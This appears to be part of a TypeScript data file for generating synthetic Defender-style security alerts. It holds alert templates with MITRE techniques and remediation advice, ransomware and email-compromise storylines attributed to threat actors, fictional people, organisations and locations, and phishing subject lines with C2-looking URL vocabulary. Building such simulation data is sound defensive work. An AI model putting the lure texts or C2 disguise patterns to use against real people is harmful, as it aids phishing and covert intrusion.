    severity: "medium",
    weight: 5,
    determination: "compromisedAccount",
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    userRoles: ["attacked"],
    recommendedActions: "Enforce strong passwords and account lockout. Investigate the source device.",
  },
  {
    key: "mdi.dcsync",
    ...MDI,
    title: "Suspected DCSync attack (replication of directory services)",
    description: "A non-domain-controller device requested directory replication, which lets an attacker retrieve password hashes of any account.",
    category: "CredentialAccess",
    mitreTechniques: ["T1003.006"],
    severity: "high",
    weight: 1,
    determination: "multiStagedAttack",
    actor: true,
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    deviceRoles: ["compromised"],
    userRoles: ["compromised"],
    verdict: "malicious",
    recommendedActions: "Isolate the source device, reset the account's password and review who holds replication permissions.",
  },
  {
    key: "mdi.honeytoken",
    ...MDI,
    title: "Honeytoken authentication activity",
    description: "A honeytoken account, which should never be used, attempted to authenticate.",
    category: "CredentialAccess",
    mitreTechniques: ["T1078"],
    severity: "medium",
    weight: 2,
    determination: "multiStagedAttack",
    evidence: ["ip"],
    ips: [{ slot: "internal", roles: ["source"] }],
    recommendedActions: "Investigate the source device; honeytoken use indicates an attacker enumerating credentials.",
  },

  // ---- Defender for Office 365 ----------------------------------------------------------------
  {
    key: "mdo.phishDelivered",
    ...MDO,
    title: "Phish delivered due to an ETR override",
    description: "A phishing email was delivered to the user's inbox because an Exchange transport rule overrode the verdict.",
    category: "InitialAccess",
    mitreTechniques: ["T1566.002"],
    severity: "medium",
    weight: 5,
    determination: "phishing",
    evidence: ["mailbox", "analyzedMessage", "url", "ip"],
    message: "inbound",
    urls: ["phish"],
    ips: [{ slot: "sender", roles: ["source"] }],
    userRoles: ["attacked"],
    recommendedActions: "Remove the message from mailboxes, review the transport rule and block the sender.",
  },
  {
    key: "mdo.phishRemoved",
    ...MDO,
    title: "Email messages containing malicious URL removed after delivery",
    description: "Emails with a URL that was later found to be malicious were removed from mailboxes by zero-hour auto purge (ZAP).",
    category: "InitialAccess",
    mitreTechniques: ["T1566.002"],
    severity: "informational",
    weight: 12,
    determination: "phishing",
    evidence: ["mailbox", "analyzedMessage", "url"],
    message: "inbound",
    urls: ["phish"],
    userRoles: ["attacked"],
    recommendedActions: "Check whether the recipient clicked the URL before the message was removed.",
  },
  {
    key: "mdo.malwareRemoved",
    ...MDO,
    title: "Email messages containing malware removed after delivery",
    description: "Emails with a malicious attachment were removed from mailboxes after delivery by zero-hour auto purge (ZAP).",
    category: "InitialAccess",
    mitreTechniques: ["T1566.001"],
    severity: "informational",
    weight: 10,
    determination: "malware",
    evidence: ["mailbox", "analyzedMessage", "file"],
    message: "inbound",
    files: ["attachment"],
    userRoles: ["attacked"],
    recommendedActions: "Check whether the attachment was opened on any device.",
  },
  {
    key: "mdo.urlClick",
    ...MDO,
    title: "A potentially malicious URL click was detected",
    description: "The user clicked a link in an email that was later identified as malicious by Safe Links.",
    category: "InitialAccess",
    mitreTechniques: ["T1566.002", "T1204.001"],
    severity: "high",
    weight: 3,
    determination: "phishing",
    evidence: ["url", "mailbox", "analyzedMessage", "ip"],
    message: "inbound",
    urls: ["phish"],
    ips: [{ slot: "home", roles: ["source"] }],
    userRoles: ["compromised"],
    recommendedActions: `${RESET_PW}\nReview sign-in logs for the user after the click.`,
  },
  {
    key: "mdo.userReported",
    ...MDO,
    title: "Email reported by user as malware or phish",
    description: "A user reported an email as phishing or malware.",
    category: "InitialAccess",
    mitreTechniques: ["T1566"],
    severity: "informational",
    weight: 10,
    determination: "phishing",
    evidence: ["mailbox", "analyzedMessage", "url"],
    message: "inbound",
    urls: ["phish"],
    recommendedActions: "Review the reported message and submit it to Microsoft for analysis.",
  },
  {
    key: "mdo.forwardingRule",
    ...MDO,
    title: "Creation of forwarding/redirect rule",
    description: "A mailbox rule that forwards or redirects messages to an external address was created.",
    category: "Exfiltration",
    mitreTechniques: ["T1114.003"],
    severity: "informational",
    weight: 6,
    determination: "compromisedAccount",
    evidence: ["mailbox", "ip"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    recommendedActions: "Verify the rule with the user and remove it if it was not created by them.",
  },
  {
    key: "mdo.suspiciousSending",
    ...MDO,
    title: "Suspicious email sending patterns detected",
    description:
      "The account sent an unusually high volume of email, including to external recipients, which may indicate a compromised account used for internal phishing.",
    category: "InitialAccess",
    mitreTechniques: ["T1534"],
    severity: "medium",
    weight: 2,
    determination: "compromisedAccount",
    evidence: ["mailbox", "analyzedMessage"],
    message: "outbound",
    userRoles: ["compromised"],
    recommendedActions: `${RESET_PW}\nReview the sent items of the mailbox.`,
  },

  // ---- Defender for Cloud Apps ----------------------------------------------------------------
  {
    key: "mda.impossibleTravel",
    ...MDA,
    title: "Impossible travel activity",
    description: "The user signed in from two distant locations within a time shorter than the travel time between them.",
    category: "InitialAccess",
    mitreTechniques: ["T1078"],
    severity: "medium",
    weight: 7,
    determination: "compromisedAccount",
    evidence: ["ip", "ip", "cloudApplication"],
    ips: [
      { slot: "home", roles: ["source"] },
      { slot: "attacker", roles: ["source"] },
    ],
    cloudApp: "office365",
    userRoles: ["compromised"],
    recommendedActions: "Confirm with the user whether they use a VPN. If not, reset the password and require MFA.",
  },
  {
    key: "mda.massDownload",
    ...MDA,
    title: "Mass download by a single user",
    description: "A user downloaded an unusually large number of files from SharePoint or OneDrive in a short period.",
    category: "Exfiltration",
    mitreTechniques: ["T1530"],
    severity: "medium",
    weight: 4,
    determination: "maliciousUserActivity",
    evidence: ["cloudApplication", "ip", "file"],
    cloudApp: "sharepoint",
    ips: [{ slot: "home", roles: ["source"] }],
    files: ["sensitiveDoc"],
    userRoles: ["policyViolator"],
    recommendedActions: "Review the downloaded files and whether the activity matches the user's role.",
  },
  {
    key: "mda.inboxForwarding",
    ...MDA,
    cloudApp: "exchange",
    title: "Suspicious inbox forwarding",
    description: "An inbox rule that forwards all email to an external address was set up after a suspicious sign-in.",
    category: "Exfiltration",
    mitreTechniques: ["T1114.003", "T1020"],
    severity: "medium",
    weight: 3,
    determination: "compromisedAccount",
    evidence: ["mailbox", "ip", "cloudApplication"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    userRoles: ["compromised"],
    recommendedActions: `Remove the forwarding rule. ${RESET_PW}`,
  },
  {
    key: "mda.inboxManipulation",
    ...MDA,
    cloudApp: "exchange",
    title: "Suspicious inbox manipulation rule",
    description: "An inbox rule that deletes or moves messages to an obscure folder was created, which attackers use to hide replies.",
    category: "DefenseEvasion",
    mitreTechniques: ["T1564.008"],
    severity: "medium",
    weight: 2,
    determination: "compromisedAccount",
    evidence: ["mailbox", "ip", "cloudApplication"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    userRoles: ["compromised"],
    recommendedActions: `Remove the rule. ${RESET_PW}`,
  },
  {
    key: "mda.infrequentCountry",
    ...MDA,
    cloudApp: "office365",
    title: "Activity from infrequent country",
    description: "Activity was observed from a country that no user in the organization has used recently.",
    category: "InitialAccess",
    mitreTechniques: ["T1078"],
    severity: "low",
    weight: 12,
    determination: "compromisedAccount",
    evidence: ["ip", "cloudApplication"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    recommendedActions: "Confirm the activity with the user.",
  },
  {
    key: "mda.massDeletion",
    ...MDA,
    cloudApp: "onedrive",
    title: "Unusual file deletion activity (by user)",
    description: "A user deleted an unusually large number of files in a single session.",
    category: "Impact",
    mitreTechniques: ["T1485"],
    severity: "medium",
    weight: 2,
    determination: "maliciousUserActivity",
    evidence: ["cloudApplication", "ip"],
    ips: [{ slot: "home", roles: ["source"] }],
    recommendedActions: "Check the recycle bin and restore files if needed; review the user's intent.",
  },

  // ---- Entra ID Protection -----------------------------------------------------------------
  {
    key: "aadip.unfamiliarSignIn",
    ...AADIP,
    title: "Unfamiliar sign-in properties",
    description: "A sign-in had properties (IP, location, device, ASN) that are unfamiliar for the user.",
    category: "InitialAccess",
    mitreTechniques: ["T1078.004"],
    severity: "medium",
    weight: 9,
    determination: "compromisedAccount",
    evidence: ["ip"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    userRoles: ["compromised"],
    recommendedActions: "Confirm the sign-in with the user; if it was not them, reset the password and revoke sessions.",
  },
  {
    key: "aadip.leakedCredentials",
    ...AADIP,
    title: "Leaked credentials",
    description: "The user's valid credentials were found in a public leak or on the dark web.",
    category: "CredentialAccess",
    mitreTechniques: ["T1589.001"],
    severity: "high",
    weight: 2,
    determination: "compromisedAccount",
    evidence: [],
    userRoles: ["compromised"],
    recommendedActions: RESET_PW,
  },
  {
    key: "aadip.anonymousIp",
    ...AADIP,
    title: "Anonymous IP address",
    description: "A sign-in came from an anonymous proxy IP address, such as a Tor exit node.",
    category: "InitialAccess",
    mitreTechniques: ["T1090.003"],
    severity: "low",
    weight: 14,
    determination: "compromisedAccount",
    evidence: ["ip"],
    ips: [{ slot: "attacker", roles: ["source"] }],
    recommendedActions: "Confirm the sign-in with the user.",
  },
  {
    key: "aadip.passwordSpray",
    ...AADIP,
    title: "Password spray",
    description: "The account was targeted by a password spray attack, and a sign-in with a correct password followed.",
    category: "CredentialAccess",
    mitreTechniques: ["T1110.003"],
    severity: "high",
    weight: 2,
    determination: "compromisedAccount",
    actor: true,
    evidence: ["ip"],
    ips: [{ slot: "attacker", roles: ["attacker"] }],
    userRoles: ["attacked"],
    recommendedActions: `${RESET_PW}\nBlock the source IP and enforce MFA.`,
  },
  {
    key: "aadip.atypicalTravel",
    ...AADIP,
    title: "Atypical travel",
    description: "Two sign-ins originated from geographically distant locations, at least one of which is atypical for the user.",
    category: "InitialAccess",
    mitreTechniques: ["T1078"],
    severity: "medium",
    weight: 6,
    determination: "compromisedAccount",
    evidence: ["ip", "ip"],
    ips: [
      { slot: "home", roles: ["source"] },
      { slot: "attacker", roles: ["source"] },
    ],
    recommendedActions: "Confirm the sign-ins with the user.",
  },

  // ---- Purview DLP -----------------------------------------------------------------------------
  {
    key: "dlp.email",
    ...DLP,
    title: "DLP policy (U.S. Financial Data) matched for email",
    description: "An outbound email contained sensitive financial information (credit card or bank account numbers) and matched a DLP policy.",
    category: "Exfiltration",
    mitreTechniques: ["T1048"],
    severity: "low",
    weight: 10,
    determination: "maliciousUserActivity",
    evidence: ["mailbox", "analyzedMessage", "file"],
    message: "outbound",
    files: ["sensitiveDoc"],
    userRoles: ["policyViolator"],
    recommendedActions: "Review the matched content and contact the sender's manager if the sharing was not justified.",
  },
  {
    key: "dlp.endpointRemovable",
    ...DLP,
    title: "DLP policy (Customer PII) matched for document copied to removable media",
    description: "A document containing personal data was copied to a USB drive.",
    category: "Exfiltration",
    mitreTechniques: ["T1052.001"],
    severity: "low",
    weight: 6,
    determination: "maliciousUserActivity",
    evidence: ["file", "process"],
    files: ["sensitiveDoc"],
    processes: [{ image: "explorer.exe", parent: "explorer.exe", cmd: ["C:\\Windows\\Explorer.EXE"] }],
    userRoles: ["policyViolator"],
    recommendedActions: "Review the copied file and the user's justification.",
  },
  {
    key: "dlp.externalShare",
    ...DLP,
    cloudApp: "onedrive",
    title: "DLP policy (GDPR) matched for file shared externally",
    description: "A file with personal data of EU residents was shared with an external user through a sharing link.",
    category: "Exfiltration",
    mitreTechniques: ["T1567"],
    severity: "medium",
    weight: 4,
    determination: "maliciousUserActivity",
    evidence: ["file", "url", "cloudApplication"],
    files: ["sensitiveDoc"],
    urls: ["share"],
    userRoles: ["policyViolator"],
    recommendedActions: "Revoke the sharing link and review the file's sensitivity label.",
  },
];

// ---------------------------------------------------------------------------------------------
// Storylines: multi-alert campaigns take an in-order subset of one of these.

export interface Storyline {
  key: string;
  weight: number;
  steps: readonly string[];
  /** Activity groups that may be attributed to this kind of campaign. */
  actors?: readonly string[];
}

export const STORYLINES: readonly Storyline[] = [
  {
    key: "phishToRansomware",
    weight: 2,
    steps: [
      "mdo.phishDelivered",
      "mdo.urlClick",
      "mde.officeChild",
      "mde.powershellEncoded",
      "mde.cobaltStrike",
      "mde.processInjection",
      "mde.discovery",
      "mde.lsassAccess",
      "mdi.passTheHash",
      "mde.psexec",
      "mde.defenderTamper",
      "mde.backupsDeleted",
      "mde.ransomwareBehavior",
    ],
    actors: ["Storm-0501", "Sangria Tempest", "Manatee Tempest", "Storm-1175", "Octo Tempest"],
  },
  {
    key: "handsOnKeyboard",
    weight: 1,
    steps: [
      "mde.powershellDownload",
      "mde.discovery",
      "mdi.ldapRecon",
      "mde.mimikatz",
      "mdi.kerberoasting",
      "mde.psexec",
      "mdi.dcsync",
      "mde.backupsDeleted",
      "mde.ransomwareBehavior",
    ],
    actors: ["Storm-0501", "Octo Tempest", "Vanilla Tempest", "Lace Tempest"],
  },
  {
    key: "businessEmailCompromise",
    weight: 4,
    steps: [
      "mdo.phishRemoved",
      "mdo.urlClick",
      "aadip.unfamiliarSignIn",
      "mda.impossibleTravel",
      "mda.inboxForwarding",
      "mdo.forwardingRule",
      "mda.inboxManipulation",
      "mdo.suspiciousSending",
    ],
    actors: ["Storm-1167", "Storm-0539"],
  },
  {
    key: "identityAttack",
    weight: 3,
    steps: [
      "aadip.passwordSpray",
      "mdi.bruteForce",
      "aadip.anonymousIp",
      "aadip.unfamiliarSignIn",
      "aadip.atypicalTravel",
      "mda.infrequentCountry",
      "mda.massDownload",
    ],
    actors: ["Midnight Blizzard", "Peach Sandstorm", "Storm-0940"],
  },
  {
    key: "activeDirectory",
    weight: 1,
    steps: ["mdi.ldapRecon", "mdi.kerberoasting", "mdi.honeytoken", "mdi.passTheHash", "mdi.dcsync", "mdi.goldenTicket"],
    actors: ["Midnight Blizzard", "Forest Blizzard", "Mint Sandstorm"],
  },
  {
    key: "commodityMalware",
    weight: 4,
    steps: [
      "mdo.malwareRemoved",
      "mde.officeChild",
      "mde.malwareDetected",
      "mde.lolbinDownload",
      "mde.scheduledTask",
      "mde.asepRegistry",
      "mde.customNetworkIndicator",
    ],
  },
  {
    key: "persistence",
    weight: 2,
    steps: ["mde.lolbinDownload", "mde.powershellEncoded", "mde.scheduledTask", "mde.asepRegistry", "mde.defenderTamper", "mde.cobaltStrike"],
    actors: ["Storm-0569", "Lace Tempest"],
  },
  {
    key: "leakedCredentials",
    weight: 2,
    steps: ["aadip.leakedCredentials", "aadip.unfamiliarSignIn", "mda.infrequentCountry", "mda.massDownload"],
  },
  {
    key: "insider",
    weight: 3,
    steps: ["dlp.email", "dlp.externalShare", "mda.massDownload", "dlp.endpointRemovable", "mda.massDeletion"],
  },
  {
    key: "unwantedSoftware",
    weight: 3,
    steps: ["mde.puaDetected", "mde.malwarePrevented", "mde.customNetworkIndicator"],
  },
];

/** Alerts per campaign (before the optional repeat occurrence): skewed towards 1–3. */
export const ALERTS_PER_CAMPAIGN: readonly (readonly [number, number])[] = [
  [1, 42],
  [2, 24],
  [3, 14],
  [4, 8],
  [5, 5],
  [6, 3],
  [7, 2],
  [8, 2],
];

// ---------------------------------------------------------------------------------------------
// People, organizations, devices

export const FIRST_NAMES = [
  "Amelia",
  "Oliver",
  "Isla",
  "Noah",
  "Ava",
  "Liam",
  "Mia",
  "Lucas",
  "Sofia",
  "Ethan",
  "Chloe",
  "Mateo",
  "Grace",
  "Arjun",
  "Priya",
  "Wei",
  "Mei",
  "Hiroshi",
  "Yuki",
  "Fatima",
  "Omar",
  "Leila",
  "Jonas",
  "Elena",
  "Marco",
  "Giulia",
  "Lars",
  "Ingrid",
  "Kwame",
  "Amara",
  "Diego",
  "Camila",
  "Sean",
  "Aoife",
  "Pavel",
  "Olga",
  "Nadia",
  "Tomasz",
  "Hannah",
  "Daniel",
  "Rachel",
  "Samuel",
  "Zoe",
  "Benjamin",
  "Lily",
  "Jack",
  "Emily",
  "Henry",
  "Sara",
  "Andre",
  "Nina",
  "Victor",
  "Julia",
  "Kenji",
  "Anika",
  "Rohan",
  "Ines",
  "Felix",
  "Maya",
  "Adrian",
] as const;

export const LAST_NAMES = [
  "Hughes",
  "Patel",
  "Nguyen",
  "Kim",
  "Garcia",
  "Smith",
  "Johnson",
  "Brown",
  "Müller",
  "Schmidt",
  "Rossi",
  "Silva",
  "Okafor",
  "Mensah",
  "Kowalski",
  "Novak",
  "Ivanova",
  "Tanaka",
  "Sato",
  "Chen",
  "Wang",
  "Li",
  "Singh",
  "Sharma",
  "Haddad",
  "Khan",
  "O'Brien",
  "Murphy",
  "Larsen",
  "Johansson",
  "Dubois",
  "Martin",
  "Lopez",
  "Fernandez",
  "Cohen",
  "Levi",
  "Andersson",
  "Nielsen",
  "Walker",
  "Wright",
  "Clarke",
  "Evans",
  "Baker",
  "Reyes",
  "Cruz",
  "Torres",
  "Park",
  "Yamamoto",
  "Bianchi",
  "Moreau",
  "Fischer",
  "Weber",
  "Ali",
  "Hassan",
  "Campbell",
  "Stewart",
  "Reid",
  "Foster",
] as const;

export interface Org {
  name: string;
  domain: string;
}

export const ORGS: readonly Org[] = [
  { name: "Contoso", domain: "contoso.com" },
  { name: "Fabrikam", domain: "fabrikam.com" },
  { name: "Northwind Traders", domain: "northwindtraders.com" },
  { name: "Adatum", domain: "adatum.com" },
  { name: "Woodgrove Bank", domain: "woodgrovebank.com" },
  { name: "Tailspin Toys", domain: "tailspintoys.com" },
  { name: "Litware", domain: "litwareinc.com" },
  { name: "Proseware", domain: "proseware.com" },
];

/** [hostname prefix, RBAC device group]. */
export const DEPARTMENTS: readonly (readonly [string, string])[] = [
  ["FIN", "Finance Workstations"],
  ["HR", "Human Resources Workstations"],
  ["ENG", "Engineering Workstations"],
  ["SALES", "Sales Laptops"],
  ["MKT", "Marketing Laptops"],
  ["LEGAL", "Legal Workstations"],
  ["IT", "IT Admin Workstations"],
  ["OPS", "Operations Workstations"],
  ["EXEC", "Executive Devices"],
  ["SUP", "Support Workstations"],
  ["RND", "Research Workstations"],
];
export const WORKSTATION_KINDS = ["LT", "WS", "DT", "VDI"] as const;
export const SERVER_ROLES = ["SQL", "FS", "APP", "WEB", "RDS", "PRINT", "BKP"] as const;

/** [osPlatform, osBuild, version, weight]. */
export const OS_VERSIONS: readonly (readonly [string, number, string, number])[] = [
  ["Windows11", 22631, "23H2", 40],
  ["Windows11", 26100, "24H2", 18],
  ["Windows10", 19045, "22H2", 30],
  ["Windows10", 19044, "21H2", 4],
];
export const SERVER_OS_VERSIONS: readonly (readonly [string, number, string, number])[] = [
  ["WindowsServer2022", 20348, "21H2", 50],
  ["WindowsServer2019", 17763, "1809", 35],
  ["WindowsServer2025", 26100, "24H2", 15],
];

/** Lateral-movement targets named only in command lines (never an evidence entity). */
export const LATERAL_TARGETS = ["FS01", "FS02", "SQL01", "APP02", "RDS01", "BKP01", "WEB03", "PRINT01", "HV02", "JUMP01"] as const;
/** COM surrogate class ids seen in dllhost.exe command lines (command-line text only). */
export const COM_SURROGATE_CLSIDS = [
  "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
  "{3EB3C877-1F16-487C-9050-104DBCD66683}",
  "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
  "{F9717507-6651-4EDB-BFF7-AE615179BCCF}",
] as const;
export const DOMAIN_CONTROLLERS = ["DC01", "DC02", "DC03", "ADDS01"] as const;

export const WORDS = [
  "sync",
  "update",
  "helper",
  "agent",
  "cache",
  "office",
  "adobe",
  "java",
  "runtime",
  "service",
  "host",
  "client",
  "launcher",
  "driver",
  "telemetry",
  "monitor",
  "backup",
  "edge",
  "chrome",
  "nvidia",
  "intel",
  "realtek",
  "zoom",
  "teams",
  "onenote",
] as const;

export const TASK_NAMES = [
  "\\Microsoft\\Windows\\{Word}\\Maintenance",
  "\\{Word}UpdateTask",
  "\\GoogleUpdateTaskMachine{n2}",
  "\\OneDrive Sync {hex6}",
  "\\Microsoft\\Office\\OfficeTelemetry{n2}",
  "\\{Word}Service",
] as const;

// ---------------------------------------------------------------------------------------------
// Places

export interface Place {
  city: string;
  state: string | null;
  countryName: string;
  countryLetterCode: string;
  latitude: number;
  longitude: number;
}

function place(city: string, state: string | null, countryName: string, countryLetterCode: string, latitude: number, longitude: number): Place {
  return { city, state, countryName, countryLetterCode, latitude, longitude };
}

/** Where the organization's users normally work from. */
export const HOME_PLACES: readonly Place[] = [
  place("Seattle", "Washington", "United States", "US", 47.6062, -122.3321),
  place("Redmond", "Washington", "United States", "US", 47.674, -122.1215),
  place("New York", "New York", "United States", "US", 40.7128, -74.006),
  place("Chicago", "Illinois", "United States", "US", 41.8781, -87.6298),
  place("Austin", "Texas", "United States", "US", 30.2672, -97.7431),
  place("Boston", "Massachusetts", "United States", "US", 42.3601, -71.0589),
  place("Atlanta", "Georgia", "United States", "US", 33.749, -84.388),
  place("Denver", "Colorado", "United States", "US", 39.7392, -104.9903),
  place("San Francisco", "California", "United States", "US", 37.7749, -122.4194),
  place("Toronto", "Ontario", "Canada", "CA", 43.6532, -79.3832),
  place("London", "England", "United Kingdom", "GB", 51.5072, -0.1276),
  place("Dublin", "Leinster", "Ireland", "IE", 53.3498, -6.2603),
];

/** Where attacker infrastructure, VPS and anonymizers tend to geolocate. */
export const REMOTE_PLACES: readonly Place[] = [
  place("Moscow", "Moscow", "Russia", "RU", 55.7558, 37.6173),
  place("Saint Petersburg", "Saint Petersburg", "Russia", "RU", 59.9311, 30.3609),
  place("Lagos", "Lagos", "Nigeria", "NG", 6.5244, 3.3792),
  place("São Paulo", "São Paulo", "Brazil", "BR", -23.5558, -46.6396),
  place("Hanoi", "Hanoi", "Vietnam", "VN", 21.0278, 105.8342),
  place("Bucharest", "Bucharest", "Romania", "RO", 44.4268, 26.1025),
  place("Amsterdam", "North Holland", "Netherlands", "NL", 52.3676, 4.9041),
  place("Frankfurt am Main", "Hesse", "Germany", "DE", 50.1109, 8.6821),
  place("Singapore", null, "Singapore", "SG", 1.3521, 103.8198),
  place("Hong Kong", null, "Hong Kong SAR", "HK", 22.3193, 114.1694),
  place("Jakarta", "Jakarta", "Indonesia", "ID", -6.2088, 106.8456),
  place("Istanbul", "Istanbul", "Türkiye", "TR", 41.0082, 28.9784),
  place("Mumbai", "Maharashtra", "India", "IN", 19.076, 72.8777),
  place("Johannesburg", "Gauteng", "South Africa", "ZA", -26.2041, 28.0473),
  place("Buenos Aires", "Buenos Aires", "Argentina", "AR", -34.6037, -58.3816),
  place("Mexico City", "Mexico City", "Mexico", "MX", 19.4326, -99.1332),
  place("Seoul", "Seoul", "South Korea", "KR", 37.5665, 126.978),
  place("Kyiv", "Kyiv", "Ukraine", "UA", 50.4501, 30.5234),
  place("Tehran", "Tehran", "Iran", "IR", 35.6892, 51.389),
  place("Shenzhen", "Guangdong", "China", "CN", 22.5431, 114.0579),
];

/**
 * First octets of public address space the generator draws from. Each campaign gets its own
 * addresses inside these /8s via a bijection, so no two campaigns share an IP.
 */
export const PUBLIC_IP_BLOCKS = [
  20, 23, 31, 37, 45, 46, 51, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 91, 92, 93, 94, 95, 103, 104, 109, 146, 176, 178, 185, 188, 193, 194, 195,
  212, 213, 217,
] as const;

// ---------------------------------------------------------------------------------------------
// URLs and mail

export const PHISH_WORDS = [
  "secure",
  "login",
  "verify",
  "account",
  "docs",
  "share",
  "portal",
  "office",
  "sso",
  "m365",
  "outlook",
  "invoice",
  "payment",
  "auth",
  "wallet",
  "hr-benefits",
] as const;
export const C2_WORDS = ["cdn", "update", "static", "api", "telemetry", "metrics", "sync", "edge", "cloud", "assets", "img", "content"] as const;
export const TLDS = ["com", "net", "top", "xyz", "online", "site", "info", "io", "live", "click", "shop", "cc"] as const;
export const PHISH_PATHS = ["login", "auth/signin", "owa", "sharepoint/doc", "verify", "secure/session", "o365", "wp-content/docs"] as const;
export const C2_PATHS = ["jquery-3.3.1.min.js", "api/v2/status", "updates/check", "pixel.gif", "ga.js", "submit.php", "cdn/assets/app.js"] as const;

export const PHISH_SUBJECTS = [
  "Action required: Your password expires today",
  "Invoice {n6} is overdue",
  "You have a new voicemail ({n2}s)",
  "Shared document: Q{n1} bonus structure",
  "DocuSign: Please review and sign",
  "Your mailbox storage is full",
  "Payment confirmation #{n6}",
  "HR: Updated benefits enrollment",
  "Fax received from +1 ({n3}) {n3}-{n4}",
  "Urgent wire transfer request",
  "Microsoft 365: Unusual sign-in activity",
] as const;
export const OUTBOUND_SUBJECTS = ["Customer list export", "Q{n1} numbers", "FW: card payments reconciliation", "Payroll {n4}", "Files you asked for"] as const;
export const SENDER_NAMES = [
  "Microsoft 365",
  "IT Service Desk",
  "DocuSign",
  "Accounts Payable",
  "HR Department",
  "Voicemail Service",
  "SharePoint Online",
  "Payroll Team",
] as const;

export const ACTORS_FALLBACK = ["Storm-0501", "Octo Tempest"] as const;
